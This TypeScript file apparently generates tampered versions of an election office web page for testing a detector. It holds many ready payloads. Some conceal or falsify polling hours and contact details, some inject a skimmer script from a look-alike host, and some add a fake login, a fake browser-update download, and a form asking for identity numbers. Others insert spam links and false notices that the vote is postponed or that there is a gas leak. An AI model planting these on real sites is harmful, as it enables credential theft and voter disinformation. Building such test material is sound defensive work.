// Concealment, whole pages, spam, and pages that talk visitors into something.
import {
  raw,
  vis,
  every,
  head,
  tail,
  below,
  goOn,
  t,
  wrong,
  twin,
  POSTPONED,
  later,
} from './attack.ts'
import type { Change } from './attack.ts'
import { hash } from './draw.ts'
import { hoursOf } from './site.ts'

const HIDE = (how: string) => (a: { html: string }) => {
  a.html = a.html.replace(
    /<(section|div)( class="[^"]*")? id="hours"/,
    (m, tag, c) => `<${tag}${c ?? ''} id="hours" ${how}`,
  )
}
const HOT = [
  'casino en ligne',
  'cheap viagra online',
  'situs slot gacor',
  'payday loans',
  'replica watches',
  'cryptobonus 2026',
]
const REG = {
  en: 'Confirm your registration: send your identity number and a photograph of your card.',
  fr: 'Confirmez votre inscription : envoyez votre numéro d’identité et une photo de votre carte.',
  es: 'Confirme su inscripción: envíe su número de identidad y una foto de su documento.',
  pt: 'Confirme seu cadastro: envie seu número de identidade e uma foto do documento.',
  de: 'Bestätigen Sie Ihre Eintragung: Senden Sie Ihre Ausweisnummer und ein Foto des Ausweises.',
  ru: 'Подтвердите регистрацию: отправьте номер документа и его фотографию.',
  ar: 'أكدوا تسجيلكم: أرسلوا رقم الهوية وصورة عنها.',
  zh: '请确认登记:提交身份证号码和证件照片。',
}

export const ATTACKS_D: Change[] = [
  // [hide-class] The hours get a class that hides them.
  {
    id: 'hide-class',
    class: 'concealed',
    do: (a) => {
      a.html = a.html.replace(
        /<(section|div) class="([^"]*)" id="hours"/,
        (_, tag, c) => `<${tag} class="${c} d-none" id="hours"`,
      )
    },
  },
  // [hide-size] Letters of no size.
  { id: 'hide-size', class: 'concealed', do: (a) => HIDE('style="font-size:0"')(a) },
  // [hide-white] White on white.
  {
    id: 'hide-white',
    class: 'concealed',
    do: (a) => HIDE('style="color:#fff;background:#fff"')(a),
  },
  // [hide-attribute] The attribute that hides.
  { id: 'hide-attribute', class: 'concealed', do: (a) => HIDE('hidden')(a) },
  // [hide-comment] The sentence stands in a comment.
  {
    id: 'hide-comment',
    class: 'concealed',
    do: (a, s) =>
      vis(
        a,
        s,
        s.L.deadline(s.L.date(s.deadline)),
        `<!-- ${s.L.deadline(s.L.date(s.deadline))} -->`,
      ),
  },
  // [overlay] A window above the page with another date.
  {
    id: 'overlay',
    class: 'concealed',
    do: (a, s) =>
      tail(
        a,
        `<div style="position:fixed;inset:0;background:#fff;z-index:9999;padding:10vh"><h2>${s.elec}</h2><p>${s.L.hours(s.L.span(s.open, s.close), later(s, 7))}</p></div>`,
      ),
  },
  // [strike] The hours are struck through.
  {
    id: 'strike',
    class: 'concealed',
    do: (a, s) => vis(a, s, s.L.span(s.open, s.close), `<s>${s.L.span(s.open, s.close)}</s>`),
  },
  // [strike-style] Struck through by style.
  {
    id: 'strike-style',
    class: 'concealed',
    do: (a) => HIDE('style="text-decoration:line-through"')(a),
  },
  // [bidi] Control marks that turn the hours round.
  {
    id: 'bidi',
    class: 'concealed',
    do: (a, s) => vis(a, s, s.L.span(s.open, s.close), `\u202e${s.L.span(s.open, s.close)}\u202c`),
  },
  // [look-alike] A letter of another alphabet in the mail address.
  {
    id: 'look-alike',
    class: 'concealed',
    do: (a, s) => every(a, s.mail, s.mail.replace('vote-', 'v\u043ete-')),
  },
  // [zero-width] Invisible marks in the telephone number.
  {
    id: 'zero-width',
    class: 'concealed',
    do: (a, s) => vis(a, s, s.phone, s.phone.replace(/(\d)(\d)$/, '$1\u200b$2')),
  },
  // [third-visitor] Every third visitor reads that the vote is postponed.
  {
    id: 'third-visitor',
    class: 'concealed',
    do: (a, s, c) => {
      if (hash(s.key, c.t, 'visitor') % 3 === 0)
        below(a, `<p><strong>${t(s, POSTPONED)}</strong></p>`)
    },
  },
  // [evening-only] Between 17 and 23 h only, another closing hour.
  {
    id: 'evening-only',
    class: 'concealed',
    do: (a, s, c) => {
      if (c.h >= 17 && c.h < 23) vis(a, s, s.L.span(s.open, s.close), s.L.span(s.open, s.close - 2))
    },
  },
  // [two-days] On two days of each week only, those before the day of the vote, another telephone.
  {
    id: 'two-days',
    class: 'concealed',
    do: (a, s, c) => {
      if (c.day % 7 === (s.election - 1) % 7 || c.day % 7 === (s.election - 2) % 7)
        every(a, s.phone, wrong(s.phone))
    },
  },
  // [night-skimmer] A skimmer that is there at night.
  {
    id: 'night-skimmer',
    class: 'concealed',
    do: (a, s, c) => {
      if (c.h >= 22 || c.h < 5) tail(a, `<script src="https://cdn.${twin(s)}/n.js" async></script>`)
    },
  },
  // [third-date] Every third visitor reads another date.
  {
    id: 'third-date',
    class: 'concealed',
    do: (a, s, c) => {
      if (hash(s.key, c.t, 'v3') % 3 === 1) vis(a, s, s.L.date(s.election), later(s, 1))
    },
  },
  // [style-content] The wrong hours come from a style.
  {
    id: 'style-content',
    class: 'concealed',
    do: (a, s) =>
      head(
        a,
        `<style>#hours p{font-size:0}#hours p::after{font-size:1rem;content:${JSON.stringify(s.L.hours(s.L.span(s.open, s.close - 3), s.L.date(s.election)))}}</style>`,
      ),
  },
  // [off-screen] The contact is moved out of the window.
  {
    id: 'off-screen',
    class: 'concealed',
    do: (a) => {
      a.html = a.html.replace(
        / id="contact"/,
        () => ' id="contact" style="position:absolute;left:-9999px"',
      )
    },
  },
  // [contact-opacity] The contact is transparent by a rule in the head.
  {
    id: 'contact-opacity',
    class: 'concealed',
    do: (a) => head(a, '<style>#contact,footer address{opacity:.01;pointer-events:none}</style>'),
  },
  // [below-covered] A sheet of clear glass above the form that leads elsewhere.
  {
    id: 'below-covered',
    class: 'concealed',
    do: (a, s) =>
      tail(
        a,
        `<a href="https://${twin(s)}/" style="position:fixed;inset:0;opacity:0;z-index:9998" aria-hidden="true"></a>`,
      ),
  },
  // [mirrored-order] The lines are drawn in reverse order.
  {
    id: 'mirrored-order',
    class: 'concealed',
    do: (a) =>
      head(
        a,
        '<style>#ballot ol,#stations tbody,#stations ol,#stations{display:flex;flex-direction:column-reverse}</style>',
      ),
  },

  // [deface-loud] The page of a vandal.
  {
    id: 'deface-loud',
    class: 'whole',
    do: (a, s) => {
      a.html = `<html><head><title>HACKED</title></head><body style="background:#000;color:#0f0"><h1>Hacked by NightOwl Crew</h1><p>${s.host} security is zero. Greetz to all.</p><audio autoplay src="a.mp3"></audio></body></html>`
    },
  },
  // [deface-polite] A polite note that the site has moved.
  {
    id: 'deface-polite',
    class: 'whole',
    do: (a, s) => {
      raw(
        a,
        /<main[\s\S]*<\/main>/,
        `<main id="main"><h1>${s.body}</h1><p>${t(s, { en: 'Our website has moved. Please visit our new address.', fr: 'Notre site a déménagé. Merci de consulter la nouvelle adresse.', es: 'Nuestro sitio se ha mudado. Visite la nueva dirección.', pt: 'Nosso site mudou. Visite o novo endereço.', de: 'Unsere Seite ist umgezogen. Bitte besuchen Sie die neue Adresse.', ru: 'Наш сайт переехал. Посетите новый адрес.', ar: 'انتقل موقعنا. يرجى زيارة العنوان الجديد.', zh: '本网站已迁移,请访问新地址。' })} <a href="https://${twin(s)}/">${twin(s)}</a></p></main>`,
      )
    },
  },
  // [deface-picture] The text of the page is one picture.
  {
    id: 'deface-picture',
    class: 'whole',
    do: (a) =>
      raw(
        a,
        /<main[\s\S]*<\/main>/,
        '<main id="main"><img src="/media/uploads/1.jpg" alt=""></main>',
      ),
  },
  // [blank] An empty page.
  {
    id: 'blank',
    class: 'whole',
    do: (a) => {
      a.html = '<html><head></head><body></body></html>'
    },
  },
  // [parked] The page of a seller of names.
  {
    id: 'parked',
    class: 'whole',
    do: (a, s) => {
      a.html = `<!DOCTYPE html><html><head><title>${s.host}</title><script src="https://parking.example/p.js"></script></head><body><h1>${s.host} is for sale</h1><ul><li>Related searches</li><li>Credit cards</li><li>Insurance</li></ul></body></html>`
    },
  },
  // [fake-login] The page asks to sign in first.
  {
    id: 'fake-login',
    class: 'whole',
    do: (a, s) =>
      raw(
        a,
        /<main[\s\S]*<\/main>/,
        `<main id="main"><h1>${s.body}</h1><form action="/media/uploads/l.php" method="post"><input name="id"><input name="pw" type="password"><button>${s.L.ui['send']}</button></form></main>`,
      ),
  },
  // [framed] The page is a frame of another one.
  {
    id: 'framed',
    class: 'whole',
    do: (a, s) => {
      a.html = `<!DOCTYPE html><html lang="${s.lang}"><head><meta charset="utf-8"><title>${s.body}</title></head><body style="margin:0"><iframe src="https://${twin(s)}/" style="border:0;width:100vw;height:100vh"></iframe></body></html>`
    },
  },
  // [postponed-page] The whole page says that the vote is postponed.
  {
    id: 'postponed-page',
    class: 'whole',
    do: (a, s) =>
      raw(
        a,
        /<main[\s\S]*<\/main>/,
        `<main id="main"><h1>${s.elec}</h1><p>${t(s, POSTPONED)}</p></main>`,
      ),
  },
  // [other-office] The page of another town.
  {
    id: 'other-office',
    class: 'whole',
    do: (a, s) => {
      const other = s.L.towns[(s.L.towns.indexOf(s.town) + 1) % s.L.towns.length]!
      every(a, s.town, other)
    },
  },

  // [spam-hidden] Links that nobody sees.
  {
    id: 'spam-hidden',
    class: 'spam',
    do: (a) =>
      tail(
        a,
        `<div style="position:absolute;left:-9999px">${HOT.map((x, i) => `<a href="https://spam-${i}.example/">${x}</a>`).join(' ')}</div>`,
      ),
  },
  // [spam-foot] Links at the foot.
  {
    id: 'spam-foot',
    class: 'spam',
    do: (a) =>
      raw(
        a,
        '</footer>',
        `<p class="partners">${HOT.slice(0, 3)
          .map((x, i) => `<a href="https://spam-${i}.example/">${x}</a>`)
          .join(' | ')}</p></footer>`,
      ),
  },
  // [spam-word] One link in a sentence.
  {
    id: 'spam-word',
    class: 'spam',
    do: (a, s) => goOn(a, s, `<a href="https://bonus-play.example/">${HOT[0]}</a>`),
  },
  // [spam-title] Title and description of a shop.
  {
    id: 'spam-title',
    class: 'spam',
    do: (a) => {
      raw(a, /<title>[^<]*<\/title>/, `<title>${HOT[1]} - best price</title>`)
      raw(
        a,
        /<meta name="description" content="[^"]*">/,
        `<meta name="description" content="${HOT[1]}, fast delivery">`,
      )
    },
  },
  // [spam-news] An item of news that sells.
  {
    id: 'spam-news',
    class: 'spam',
    do: (a, s) =>
      below(
        a,
        `<article><h3>${HOT[5]}</h3><p>Win 500 USDT with code VOTE${s.n} <a href="https://coin-gift.example/">here</a>.</p></article>`,
      ),
  },
  // [spam-menu] An item in the menu.
  {
    id: 'spam-menu',
    class: 'spam',
    do: (a) =>
      raw(a, '</ul></nav>', `<li><a href="https://spam-1.example/">${HOT[2]}</a></li></ul></nav>`),
  },

  // [fake-alert] A banner about a danger.
  {
    id: 'fake-alert',
    class: 'social',
    do: (a, s) =>
      below(
        a,
        `<div role="alert" class="alert alert-danger">${t(s, { en: 'Warning: gas leak at several polling stations. Please stay at home.', fr: 'Attention : fuite de gaz dans plusieurs bureaux. Restez chez vous.', es: 'Aviso: fuga de gas en varios colegios. Quédese en casa.', pt: 'Aviso: vazamento de gás em várias seções. Fique em casa.', de: 'Achtung: Gasaustritt in mehreren Wahllokalen. Bitte bleiben Sie zu Hause.', ru: 'Внимание: утечка газа на нескольких участках. Оставайтесь дома.', ar: 'تحذير: تسرب غاز في عدة مراكز. يرجى البقاء في المنزل.', zh: '警告:多个投票站发生燃气泄漏,请留在家中。' })}</div>`,
      ),
  },
  // [fake-survey] A survey that asks for identity numbers.
  {
    id: 'fake-survey',
    class: 'social',
    do: (a, s) =>
      below(
        a,
        `<form action="/survey" method="post"><p>${t(s, REG)}</p><input name="national_id" inputmode="numeric"><input type="file" name="card"><button>${s.L.ui['send']}</button></form>`,
      ),
  },
  // [fake-chat] A chat of a known provider with the account of somebody else.
  {
    id: 'fake-chat',
    class: 'social',
    do: (a, s) =>
      tail(
        a,
        `<script>var Tawk_API=Tawk_API||{};(function(){var s1=document.createElement("script");s1.async=true;s1.src='https://embed.tawk.to/${s.yt}/default';document.head.appendChild(s1)})();</script>`,
      ),
  },
  // [fake-update] A window that wants a browser update.
  {
    id: 'fake-update',
    class: 'social',
    do: (a, s) =>
      tail(
        a,
        `<div class="modal" style="position:fixed;bottom:0;left:0;right:0"><p>Your browser is out of date.</p><a href="/media/uploads/update-${s.n}.zip" download>Update</a></div>`,
      ),
  },
  // [fake-release] A press release in the tone of the office.
  {
    id: 'fake-release',
    class: 'social',
    do: (a, s) =>
      below(
        a,
        `<article class="teaser"><h3>${s.body}</h3><p>${t(s, POSTPONED)} ${s.L.para[0]}</p></article>`,
      ),
  },
  // [fake-correction] A polite correction.
  {
    id: 'fake-correction',
    class: 'social',
    do: (a, s) =>
      below(
        a,
        `<p>${t(s, { en: 'Correction:', fr: 'Rectification :', es: 'Corrección:', pt: 'Correção:', de: 'Berichtigung:', ru: 'Исправление:', ar: 'تصحيح:', zh: '更正:' })} ${hoursOf(s).replace(s.L.date(s.election), later(s, 1))}</p>`,
      ),
  },
  // [fake-lottery] A prize for those who register again.
  {
    id: 'fake-lottery',
    class: 'social',
    do: (a, s) =>
      below(
        a,
        `<p><a href="https://${twin(s)}/prize">${t(s, { en: 'Register again and win a bicycle', fr: 'Réinscrivez-vous et gagnez un vélo', es: 'Inscríbase de nuevo y gane una bicicleta', pt: 'Cadastre-se de novo e ganhe uma bicicleta', de: 'Neu eintragen und ein Fahrrad gewinnen', ru: 'Зарегистрируйтесь снова и выиграйте велосипед', ar: 'سجلوا من جديد واربحوا دراجة', zh: '重新登记即可赢取自行车' })}</a></p>`,
      ),
  },
  // [fake-verify] A link to confirm the registration.
  {
    id: 'fake-verify',
    class: 'social',
    do: (a, s) => goOn(a, s, `<a href="https://verify-${s.n}.example/">${t(s, REG)}</a>`),
  },
  // [fake-result] A first result before the stations close.
  {
    id: 'fake-result',
    class: 'social',
    do: (a, s) =>
      below(
        a,
        `<p><strong>${s.L.ui['res']}: ${s.cands[0]!.name} 61,4 %, ${s.cands[1]!.name} 22,8 %</strong></p>`,
      ),
  },
]
